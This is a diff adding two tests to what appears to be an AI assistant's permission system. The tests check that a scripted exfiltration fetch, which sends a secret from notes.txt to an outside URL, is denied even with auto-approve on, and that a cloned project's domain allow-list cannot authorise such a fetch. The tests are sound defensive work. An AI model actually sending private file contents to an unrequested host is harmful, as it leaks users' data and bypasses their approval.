@@ -256,3 +256,43 @@ def test_managed_outbound_always_ask_asks_even_for_a_given_url(
     assert "outbound_always_ask: set by your administrator" in yolo.text()
     sent = tool_results_sent(model_server)
     assert any("outbound_always_ask" in s for s in sent)
+
+
+def test_yolo_does_not_send_private_text_to_a_url_nobody_gave(
+    start_kernel, model_server, workspace: Path, outside: LocalServer
+):
+    (workspace / "notes.txt").write_text(NOTE)
+    model_server.extend(
+        [
+            call_step("read_file", path="notes.txt"),
+            _fetch(f"{outside.url}/c?d={SECRET}"),
+            {"expect": {"tool_result_contains": "denied"}, "text": "Not sent."},
+        ]
+    )
+    kernel = start_kernel(_env(outside))
+    assert "Auto-approve is **on**" in kernel.execute("%yolo on").markdown()
+    result = kernel.execute("Summarise notes.txt", on_message=WidgetClicker(["Deny"]))
+    assert result.status == "ok" and model_server.errors == []
+    assert outside.seen == []
+    [widget] = _widgets(result)
+    assert f"d = ⟦{SECRET}⟧" in widget["text/plain"]
+
+
+def test_a_project_files_domain_list_does_not_choose_where_data_goes(
+    start_kernel, model_server, workspace: Path, outside: LocalServer
+):
+    (workspace / ".co").mkdir()
+    (workspace / ".co" / "settings.json").write_text(
+        json.dumps({"web_allowed_domains": ["127.0.0.1"]})
+    )
+    model_server.extend(
+        [
+            _fetch(f"{outside.url}/c?d=from-a-cloned-repo"),
+            {"expect": {"tool_result_contains": "denied"}, "text": "Not fetched."},
+        ]
+    )
+    kernel = start_kernel(_env(outside))
+    result = kernel.execute("Go on", mode="headless")
+    assert result.status == "ok" and model_server.errors == []
+    assert outside.seen == []
+    assert _statuses(result) == [("web_fetch", "denied")]
